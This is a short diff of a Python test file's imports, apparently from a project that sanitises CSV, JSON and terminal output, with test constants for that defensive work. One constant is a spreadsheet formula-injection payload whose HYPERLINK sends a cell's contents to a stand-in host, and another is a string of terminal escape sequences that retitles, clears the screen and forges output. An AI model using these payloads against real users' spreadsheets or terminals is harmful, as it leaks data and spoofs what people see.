@@ -17,17 +17,17 @@ import subprocess
 import sys
 
 import pytest
-
 from helpers import ROOT, ServerProcess
 from liars import Handler, LyingServer
+from test_fleet import ENV
+from test_report import stored
+from test_status_table import scenes
+
 from patroller.cli.run import Progress
 from patroller.cli.usage import csv_text
 from patroller.core.usage import Party
 from patroller.doctor.results import failed, lines
 from patroller.safetext import CSV_QUOTING, csv_cell, json_text, printable
-from test_fleet import ENV
-from test_report import stored
-from test_status_table import scenes
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A3,"Click")'
 EVIL = "\x1b]0;pwned\x07\x1b[2J\x9b31m\x7f\nroot 100%\r"  # retitle, clear, CSI, DEL, a new line
